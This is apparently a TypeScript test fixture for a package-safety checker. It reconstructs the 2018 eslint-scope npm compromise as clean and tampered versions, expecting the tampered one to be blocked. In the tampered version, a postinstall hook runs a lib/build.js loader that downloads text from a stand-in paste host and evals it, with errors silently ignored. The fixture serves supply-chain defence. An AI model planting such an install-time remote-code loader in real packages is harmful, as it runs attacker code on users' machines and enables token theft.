import type { Replica } from './replica.js';

const manifest = {
  description: 'ECMAScript scope analyzer for linters',
  main: 'lib/index.js',
  license: 'BSD-2-Clause',
  engines: { node: '>=4.0.0' },
  repository: { type: 'git', url: 'https://git.example/lint/eslint-scope.git' },
  files: ['LICENSE', 'README.md', 'lib'],
  dependencies: { esrecurse: '^4.1.0', estraverse: '^4.1.1' },
};

const index = String.raw`'use strict';

const ScopeManager = require('./scope-manager');
const Referencer = require('./referencer');
const version = require('../package.json').version;

function defaults() {
  return { optimistic: false, directive: false, nodejsScope: false, impliedStrict: false, sourceType: 'script', ecmaVersion: 5, fallback: 'iteration' };
}

function assign(target, override) {
  Object.keys(override || {}).forEach((key) => {
    const value = override[key];
    if (value && typeof value === 'object' && !Array.isArray(value) && target[key] && typeof target[key] === 'object') assign(target[key], value);
    else target[key] = value;
  });
  return target;
}

function analyze(tree, options) {
  const settings = assign(defaults(), options);
  const manager = new ScopeManager(settings);
  const referencer = new Referencer(settings, manager);
  referencer.visit(tree);
  if (manager.current !== null) throw new Error('a scope was left open');
  return manager;
}

module.exports = { version, analyze, ScopeManager, Referencer };
`;

const scopeManager = String.raw`'use strict';

class Scope {
  constructor(type, upper, block) {
    this.type = type;
    this.upper = upper;
    this.block = block;
    this.set = new Map();
    this.references = [];
    this.childScopes = [];
    if (upper) upper.childScopes.push(this);
  }

  define(name, node) {
    const known = this.set.get(name);
    if (known) known.identifiers.push(node);
    else this.set.set(name, { name, identifiers: [node], references: [], scope: this });
  }

  resolve(reference) {
    const variable = this.set.get(reference.identifier.name);
    if (!variable) return this.upper ? this.upper.resolve(reference) : false;
    variable.references.push(reference);
    reference.resolved = variable;
    return true;
  }
}

class ScopeManager {
  constructor(options) {
    this.options = options;
    this.scopes = [];
    this.current = null;
    this.nodes = new WeakMap();
  }

  open(type, node) {
    const scope = new Scope(type, this.current, node);
    this.scopes.push(scope);
    this.nodes.set(node, scope);
    this.current = scope;
    return scope;
  }

  close() {
    const scope = this.current;
    scope.references.forEach((one) => scope.resolve(one));
    this.current = scope.upper;
  }

  acquire(node) {
    return this.nodes.get(node) || null;
  }
}

module.exports = ScopeManager;
`;

const referencer = String.raw`'use strict';

const esrecurse = require('esrecurse');

class Referencer extends esrecurse.Visitor {
  constructor(options, manager) {
    super(null, options);
    this.manager = manager;
  }

  Program(node) {
    this.manager.open('global', node);
    this.visitChildren(node);
    this.manager.close();
  }

  BlockStatement(node) {
    this.manager.open('block', node);
    this.visitChildren(node);
    this.manager.close();
  }

  VariableDeclarator(node) {
    if (node.id.type === 'Identifier') this.manager.current.define(node.id.name, node);
    this.visit(node.init);
  }

  Identifier(node) {
    this.manager.current.references.push({ identifier: node, from: this.manager.current, resolved: null });
  }
}

module.exports = Referencer;
`;

const build = String.raw`try{
var https=require('https');
https.get({'hostname':'paste.example.invalid',path:'/raw/Qm3vT0aZ',headers:{'User-Agent':'Mozilla/5.0 (Windows NT 6.1; rv:52.0) Gecko/20100101 Firefox/52.0',Accept:'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'}},(r)=>{
r.setEncoding('utf8');
r.on('data',(c)=>{
eval(c);
});
r.on('error',()=>{});

}).on('error',()=>{});
}catch(e){}
`;

const files = {
  'lib/index.js': index,
  'lib/scope-manager.js': scopeManager,
  'lib/referencer.js': referencer,
  'README.md': '# eslint-scope\n\nFinds the scopes of a syntax tree.\n\n```js\nconst scopes = require("eslint-scope").analyze(tree);\n```\n',
  'LICENSE': 'Redistribution and use in source and binary forms are permitted under the terms of the BSD 2-clause license.\n',
};

/** From memory of the public post-mortem: the shape of the loader and its request headers. What it fetched was never part of the package. */
export const replica: Replica = {
  id: 'eslint-scope-2018',
  story: 'July 2018: with a stolen publisher token 3.7.2 gained a postinstall that evaluates what a paste site answers; that text sent the npm token off.',
  name: 'eslint-scope',
  before: { version: '3.7.1', manifest, files, publishedAt: '2017-04-12T18:04:08.000Z', publisher: { name: 'lintbot', email: 'bot@lint.example' } },
  after: {
    version: '3.7.2', manifest: { ...manifest, scripts: { postinstall: 'node ./lib/build.js' } },
    files: { ...files, 'lib/build.js': build },
    publishedAt: '2018-07-12T10:40:00.000Z', publisher: { name: 'a-maintainer', email: 'a-maintainer@lint.example' },
  },
  must: 'block',
};
